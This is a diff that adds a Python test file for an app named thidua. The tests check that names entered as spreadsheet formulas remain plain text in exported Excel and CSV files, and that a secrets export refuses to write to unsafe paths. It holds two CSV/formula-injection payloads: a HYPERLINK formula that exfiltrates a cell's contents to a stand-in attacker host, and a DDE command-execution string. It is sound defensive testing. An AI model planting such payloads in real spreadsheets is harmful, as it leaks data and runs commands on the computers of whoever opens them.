@@ -1,0 +1,158 @@
+"""What an attacker or a careless user puts in names, texts and files, and what thidua makes of
+it: a name typed as a formula stays text in every workbook and CSV thidua writes; an oversized
+workbook is refused before it is read; an import cannot lock its own admin out."""
+
+import csv
+import io
+from dataclasses import dataclass
+from pathlib import Path
+
+from openpyxl import load_workbook
+from sqlmodel import select
+from typer.testing import CliRunner
+
+from documents.tables import csv_files, workbook
+from models import Unit
+from rules.stages import Stage
+from tests import test_cli
+from tests.test_cli import advance, invoke
+from tests.test_forms import get_form
+from thidua.db import session_scope
+
+runner, templates, campaign = test_cli.runner, test_cli.templates, test_cli.campaign
+
+HYPERLINK = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'
+DDE = "=cmd|' /C calc'!A0"
+
+
+def formula_cells(path: Path) -> dict[str, object]:
+    """Every cell of the workbook that Excel would compute: 'Sheet!A1' -> its formula."""
+    book = load_workbook(path)
+    return {
+        f"{ws.title}!{c.coordinate}": c.value
+        for ws in book.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    }
+
+
+def rename(code: str, name: str) -> None:
+    with session_scope() as s:
+        unit = s.exec(select(Unit).where(Unit.code == code)).one()
+        unit.name = name
+        s.add(unit)
+
+
+def test_a_unit_named_as_a_formula_is_text_on_the_ballot_form(
+    runner: CliRunner, campaign: int, tmp_path: Path
+) -> None:
+    advance(campaign, Stage.VOTE)
+    rename("PTC", HYPERLINK)
+    path = tmp_path / "phieu.xlsx"
+    get_form(runner, "ballot", campaign, "canbo.ptm", path, "--xlsx")
+    assert formula_cells(path) == {}
+    ws = load_workbook(path)["Phiếu bầu"]
+    shown = [c for row in ws.iter_rows() for c in row if c.value == HYPERLINK]
+    assert shown and all(c.data_type == "s" and c.quotePrefix for c in shown)
+
+
+def test_the_score_form_computes_only_its_own_totals(
+    runner: CliRunner, campaign: int, tmp_path: Path
+) -> None:
+    rename("PTM", DDE)
+    path = tmp_path / "tu-cham.xlsx"
+    get_form(runner, "self-assessment", campaign, "canbo.ptm", path, "--xlsx")
+    formulas = formula_cells(path)
+    assert sorted(str(v)[:5] for v in formulas.values()) == ["=MAX(", "=SUM("]
+
+
+@dataclass
+class T:
+    key: str
+    title: str
+    headers: tuple[str, ...]
+    rows: list[tuple[object, ...]]
+
+
+def test_result_tables_write_names_as_text_in_excel_and_csv(tmp_path: Path) -> None:
+    from decimal import Decimal
+
+    table = T("ket_qua", "Kết quả", ("Đơn vị", "Chênh lệch"), [(DDE, Decimal("-3.5")), ("+1", 2)])
+    path = tmp_path / "ket-qua.xlsx"
+    path.write_bytes(workbook([table], title="x"))
+    assert formula_cells(path) == {}
+    assert load_workbook(path)["Kết quả"]["A2"].value == DDE
+    text = csv_files([table])["ket_qua.csv"].decode("utf-8-sig")
+    assert list(csv.reader(io.StringIO(text))) == [
+        ["Đơn vị", "Chênh lệch"],
+        ["'" + DDE, "-3.5"],  # a negative number stays a number
+        ["'+1", "2"],
+    ]
+
+
+def _org_with_formulas(runner: CliRunner, tmp_path: Path) -> dict[str, object]:
+    from tests.test_org import imported, write_yaml
+    from thidua.sample import sample_org
+
+    assert invoke(runner, "init").exit_code == 0
+    data = sample_org()
+    data["units"][0]["name"] = DDE
+    data["people"][0]["full_name"] = HYPERLINK
+    imported(runner, write_yaml(tmp_path / "org.yaml", data))
+    return data
+
+
+def test_an_exported_organisation_keeps_formula_names_as_text(
+    runner: CliRunner, database_url: str, tmp_path: Path
+) -> None:
+    from tests.test_org import imported, with_secrets
+
+    data = _org_with_formulas(runner, tmp_path)
+    with_secrets()
+    book = tmp_path / "to-chuc.xlsx"
+    assert invoke(runner, "org", "export", "--xlsx", book).exit_code == 0
+    assert formula_cells(book) == {}
+    wb = load_workbook(book)
+    assert wb["units"]["B2"].value == DDE and wb["units"]["B2"].quotePrefix
+    # Read back, the names are what was typed: importing the export changes nothing.
+    assert "Không có gì thay đổi" in imported(runner, book, "--actor", "quantri")
+    assert data["people"][0]["username"] == "canbo.ptm"
+
+
+def test_the_secrets_file_writes_names_as_text_and_refuses_path_tricks(
+    runner: CliRunner, database_url: str, tmp_path: Path
+) -> None:
+    from models import Actor
+    from tests.test_cli import counts, secret_for
+    from thidua.services.auth import set_secret
+
+    _org_with_formulas(runner, tmp_path)
+    with session_scope() as s:
+        admin = s.exec(select(Actor).where(Actor.username == "quantri")).one()
+        set_secret(s, admin, secret_for("quantri"))
+    bulk = ["actor", "secret", "--all-missing", "--by", "quantri", "--out"]
+    existing = tmp_path / "co-san.csv"
+    existing.write_text("giữ nguyên", encoding="utf-8")
+    folder = tmp_path / "thu-muc"
+    folder.mkdir()
+    link = tmp_path / "lien-ket.csv"
+    link.symlink_to(tmp_path / "dich.csv")  # dangling: following it would create the target
+    before = counts()
+    for path in (existing, folder, link):
+        result = runner.invoke(
+            test_cli.app, [*bulk, str(path)], env={"THIDUA_SECRET": secret_for("quantri")}
+        )
+        assert result.exit_code == 2, (path, result.output)
+        assert "trường out" in test_cli.flat(result.stderr)
+        assert counts() == before
+    assert existing.read_text(encoding="utf-8") == "giữ nguyên"
+    assert not (tmp_path / "dich.csv").exists() and list(folder.iterdir()) == []
+    out = tmp_path / "ma.csv"
+    result = runner.invoke(
+        test_cli.app, [*bulk, str(out)], env={"THIDUA_SECRET": secret_for("quantri")}
+    )
+    assert result.exit_code == 0, result.output
+    rows = {r["username"]: r for r in csv.DictReader(out.open(encoding="utf-8"))}
+    assert rows["canbo.ptm"]["full_name"] == "'" + HYPERLINK
+    assert all(r["secret"] not in result.output for r in rows.values())
